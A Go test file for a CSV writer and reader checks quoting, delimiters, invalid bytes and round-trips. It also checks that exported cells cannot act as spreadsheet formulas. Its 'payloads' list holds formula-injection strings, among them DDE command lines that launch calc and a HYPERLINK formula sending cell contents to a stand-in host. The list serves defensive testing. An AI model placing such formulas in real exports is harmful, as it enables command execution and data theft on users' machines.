package csvfile

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"
)

func write(style Style, rows ...[]Cell) (string, error) {
	var b strings.Builder
	w, err := NewWriter(&b, style)
	if err != nil {
		return "", err
	}
	for _, row := range rows {
		if err := w.Row(row...); err != nil {
			return "", err
		}
	}
	if err := w.Flush(); err != nil {
		return "", err
	}
	return b.String(), nil
}

func texts(fields ...string) []Cell {
	cells := make([]Cell, len(fields))
	for i, f := range fields {
		cells[i] = Cell{Text: f}
	}
	return cells
}

func TestWrite(t *testing.T) {
	for _, test := range []struct {
		name  string
		style Style
		rows  [][]Cell
		want  string
	}{
		{"plain", Style{}, [][]Cell{texts("a", "b"), texts("1", "")}, "a,b\n1,\n"},
		{"what would be cut is quoted", Style{}, [][]Cell{texts("a,b", "c;d", "e\tf", "g|h", `"`, "x\r\ny", " z")},
			"\"a,b\",\"c;d\",\"e\tf\",\"g|h\",\"\"\"\",\"x\r\ny\",\" z\"\n"},
		{"a lone empty field is quoted", Style{}, [][]Cell{texts("")}, "\"\"\n"},
		{"semicolon", Style{Delimiter: ";"}, [][]Cell{texts("a", "b,c")}, "a;\"b,c\"\n"},
		{"mark once", Style{BOM: true}, [][]Cell{texts("a"), texts("b")}, "\uFEFFa\nb\n"},
		{"numbers are numbers", Style{}, [][]Cell{{{Text: "-1.5", Number: true}, {Text: "+3", Number: true}}}, "-1.5,+3\n"},
		{"text that is a number", Style{}, [][]Cell{texts("-1", "+49170123", "-1,5", "-0.5")}, "-1,+49170123,\"-1,5\",-0.5\n"},
		{"raw", Style{Raw: true}, [][]Cell{texts("=1+1", "-x")}, "=1+1,-x\n"},
	} {
		t.Run(test.name, func(t *testing.T) {
			if got, err := write(test.style, test.rows...); err != nil || got != test.want {
				t.Errorf("write(%v) = %q, %v, want %q", test.rows, got, err, test.want)
			}
		})
	}
}

func TestWriteRefuses(t *testing.T) {
	for _, test := range []struct {
		name  string
		style Style
		row   []Cell
		want  string
	}{
		{"delimiters that no reader looks for", Style{Delimiter: ":"}, nil, `delimiter = ":" is none of`},
		{"bytes that are no text", Style{}, texts("a", "\xFF"), `row 1, column 2: "\xff" is no text`},
		{"NUL", Style{}, texts("a\x00"), `row 1, column 1: "a\x00" is no text`},
	} {
		t.Run(test.name, func(t *testing.T) {
			_, err := write(test.style, test.row)
			wantFault(t, err, test.want, "")
		})
	}
}

// payloads are formulas as they are smuggled into exports.
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x.example?"&A1,"click")`,
	"-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
	"x;=1+1", "x,=1+1", "x\t=1+1", "x|=1+1", "x\n=1+1", "x\r\n=1+1", "x\r=1+1", "a;+1+1", "a;-1+1", "a;@SUM(1)", "a;＝1+1",
	"\";=1+1", "\"=1+1", "a,\"=1+1", "a;\"\"=1+1", "\n=1+1", ";;=1+1", "=", "-", "+", "@", "--1", "+-1", "-1-", "=\"\"",
	"-1e5*2", "+1,5,5", "-1.", "-.5+x", "@", "\t", "\r", "=IMPORTXML(\"http://x.example\",\"//a\")", "\t\t=1+1", "a;\t=1+1",
}

func TestFormulasAreDead(t *testing.T) {
	for _, payload := range payloads {
		for _, delimiter := range []string{",", ";", "\t", "|"} {
			file, err := write(Style{Delimiter: delimiter}, texts("first", payload, "last"), texts(payload))
			if err != nil {
				t.Fatalf("write(%q) = %v", payload, err)
			}
			// Cut as another program might: at any delimiter, without regard
			// to quotes or with.
			for _, cut := range delimiters {
				for _, line := range strings.FieldsFunc(file, func(r rune) bool { return r == '\n' || r == '\r' }) {
					for field := range strings.SplitSeq(line, string(cut)) {
						if active(strings.TrimLeft(field, "\"\t")) {
							t.Errorf("write(%q) with %q = %q; cut at %q it has the formula %q", payload, delimiter, file, cut, field)
						}
					}
				}
			}
			r, err := NewReader(t.Context(), strings.NewReader(file), "x.csv", Options{Delimiter: delimiter, NoHeader: true, Short: true})
			if err != nil {
				t.Fatal(err)
			}
			rows, _, err := all(r)
			if err != nil {
				t.Fatal(err)
			}
			for _, field := range slices.Concat(rows...) {
				if active(field) {
					t.Errorf("write(%q) with %q reads back as the formula %q", payload, delimiter, field)
				}
			}
		}
	}
}

// active reports whether a spreadsheet evaluates a field.
func active(field string) bool {
	if isNumber(field) {
		return false
	}
	for _, r := range formula {
		if strings.HasPrefix(field, string(r)) {
			return true
		}
	}
	return false
}

func TestWhatIsWrittenIsReadBack(t *testing.T) {
	// Letters that mean something to a CSV reader, some more often than in life.
	field := rapid.OneOf(
		rapid.StringOf(rapid.SampledFrom([]rune(",;\t|\"'\r\n #aä😀=-+@\uFEFFsep1"))),
		rapid.String(),
		rapid.Just(""),
	).Filter(func(s string) bool { return utf8.ValidString(s) && !strings.Contains(s, "\x00") })
	rapid.Check(t, func(t *rapid.T) {
		width := rapid.IntRange(1, 4).Draw(t, "width")
		header := make([]string, width)
		for i := range header {
			header[i] = "c" + string(rune('0'+i)) + rapid.SampledFrom([]string{"", " d", ",e", ";f", "\"", "ü"}).Draw(t, "suffix")
		}
		rows := rapid.SliceOfN(rapid.SliceOfN(field, width, width), 0, 5).Draw(t, "rows")
		style := Style{
			Delimiter: rapid.SampledFrom([]string{"", ",", ";", "\t", "|"}).Draw(t, "delimiter"),
			BOM:       rapid.Bool().Draw(t, "bom"),
			Raw:       true,
		}
		cells := [][]Cell{texts(header...)}
		for _, row := range rows {
			cells = append(cells, texts(row...))
		}
		file, err := write(style, cells...)
		if err != nil {
			t.Fatalf("write(%q) = %v", rows, err)
		}
		r, err := NewReader(t.Context(), strings.NewReader(file), "x.csv", Options{})
		if err != nil {
			t.Fatalf("NewReader(%q) = %v", file, err)
		}
		got, _, err := all(r)
		if err != nil || !slices.Equal(r.Header(), header) || !slices.EqualFunc(got, rows, slices.Equal) {
			t.Errorf("%q is read back as %q %q, %v, want %q %q (%s)", file, r.Header(), got, err, header, rows, r.Found())
		}
	})
}
